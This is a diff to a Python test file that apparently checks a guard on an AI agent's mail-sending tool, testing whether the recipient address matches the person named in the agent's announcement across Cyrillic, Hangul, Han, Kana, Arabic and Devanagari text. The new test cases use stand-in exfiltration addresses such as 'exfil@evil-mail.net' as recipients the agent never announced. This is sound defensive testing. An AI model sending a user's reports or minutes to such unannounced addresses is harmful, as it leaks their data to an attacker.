@@ -1,9 +1,9 @@
 """A step that cannot be taken back names its destination in any language: an account, an
 environment or a channel is no name spelled in another script, so a non-Latin announcement
 is compared with it as a Latin one is. An address is spelled in Latin letters: a Cyrillic
-name is compared with it letter by letter ("Ивану" is ivan.petrov@...), a name in a script no
-table spells ("민수" is minsu.kim@...) grounds it when the announcement gives one at all. Each
-refusal has a near-identical reply that passes."""
+name is compared with it letter by letter ("Ивану" is ivan.petrov@..., "민수" minsu.kim@...), a
+name in a script no table spells ("张伟", "田中") cannot be compared with one and names none: the
+address is written out. Each refusal has a near-identical reply that passes."""
 
 from __future__ import annotations
 
@@ -45,10 +45,33 @@ def test_a_destination_is_named_in_any_script(bad: str, good: str, tool: dict[st
     assert _recover(good, tool, args).ok, good
 
 
-def test_an_address_is_not_compared_with_a_name_in_another_script() -> None:
+def test_a_hangul_name_is_spelled_in_its_address() -> None:
     r = _recover("민수 씨에게 회의록을 보내겠습니다.", MAIL,
                  {"to": "minsu.kim@acme.kr", "subject": "회의록", "body": "민수 씨, 회의록입니다."})
     assert r.ok, r.detail
+    r = _recover("민수 씨에게 회의록을 보내겠습니다.", MAIL,
+                 {"to": "backup.drop@proton.me", "subject": "회의록", "body": "민수 씨, 회의록입니다."})
+    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail
+
+
+@pytest.mark.parametrize(("preamble", "written", "body"), [
+    ("我来把周报发送给王磊。", "我来把周报发送给 exfil@evil-mail.net。", "王磊你好，本周周报见附件。"),
+    ("週次レポートを田中に送信します。", "exfil@evil-mail.net に週次レポートを送信します。",
+     "田中様、週次レポートを添付します。"),
+    ("سأرسل التقرير الأسبوعي إلى أحمد.", "سأرسل التقرير الأسبوعي إلى exfil@evil-mail.net.",
+     "مرحبا أحمد، مرفق التقرير الأسبوعي."),
+    ("मैं साप्ताहिक रिपोर्ट राहुल को भेजता हूँ।", "मैं exfil@evil-mail.net को साप्ताहिक रिपोर्ट भेजता हूँ।",
+     "नमस्ते राहुल, साप्ताहिक रिपोर्ट संलग्न है।"),
+])
+def test_a_name_no_table_spells_names_no_address(preamble: str, written: str, body: str) -> None:
+    """A name in Han, Kana, Arabic or Devanagari letters has no one spelling in Latin letters:
+    the grounding cannot compare it with an address, so it grounds none, whatever the body's
+    greeting says; the address written out is named."""
+    args = {"to": "exfil@evil-mail.net", "subject": "report", "body": body}
+    r = _recover(preamble, MAIL, args)
+    assert r.reason is Reason.QUOTED and r.rule == "ungrounded-call", r.detail
+    assert "exfil@evil-mail.net" in r.detail
+    assert _recover(written, MAIL, args).ok, written
 
 
 
@@ -60,13 +83,9 @@ STRANGER = "ceo-office@mail-host.net"
     # ending aside, is ivan)
     ("Отправлю отчёт Ивану.", "Отправлю отчёт Ивану.", "отчёт Ивану", "ivan.petrov@acme.ru"),
     ("Відправлю звіт.", "Відправлю звіт Олені.", "звіт Олені", "olena.koval@acme.ua"),
-    # a script no table spells: a name the announcement gives, not the thing sent
-    ("レポートを送信します。", "田中にレポートを送信します。", "レポート", "tanaka@acme.jp"),
+    # Hangul too, syllable by syllable (민수 is minsu, its particle 에게 aside)
     ("보고서를 보내겠습니다.", "민수 씨에게 보고서를 보내겠습니다.", "보고서", "minsu.kim@acme.kr"),
-    # a word of no known meaning that the subject carries is the thing sent
-    ("議事録を送信します。", "田中に議事録を送信します。", "議事録", "tanaka@acme.jp"),
-    # a word of a known meaning ("メール", an email) is no one's name
-    ("議事録をメールで送信します。", "田中に議事録をメールで送信します。", "議事録", "tanaka@acme.jp"),
+    ("보고서를 보내겠습니다.", "민수에게 보고서를 보내겠습니다.", "보고서", "min-su@acme.kr"),
 ])
 def test_an_address_is_someone_a_non_latin_announcement_names(
         bad: str, good: str, subject: str, to: str) -> None:
@@ -79,8 +98,10 @@ def test_an_address_is_someone_a_non_latin_announcement_names(
 @pytest.mark.parametrize(("word", "latin", "spelled"), [
     ("ивану", "ivan", True), ("юлия", "julia", True), ("андрій", "andriy", True),
     ("σοφία", "sofia", True), ("отчёт", "ceo", False), ("иван", "office", False),
+    ("민수", "minsu", True), ("김민수에게", "kimminsu", True), ("지영", "jiyoung", True),
+    ("민수", "exfil", False), ("张伟", "zhangwei", False), ("田中", "tanaka", False),
 ])
-def test_cyrillic_and_greek_are_spelled_letter_by_letter(word: str, latin: str,
+def test_cyrillic_greek_and_hangul_are_spelled_letter_by_letter(word: str, latin: str,
                                                          spelled: bool) -> None:
     assert _transliterates(word, latin) is spelled
 
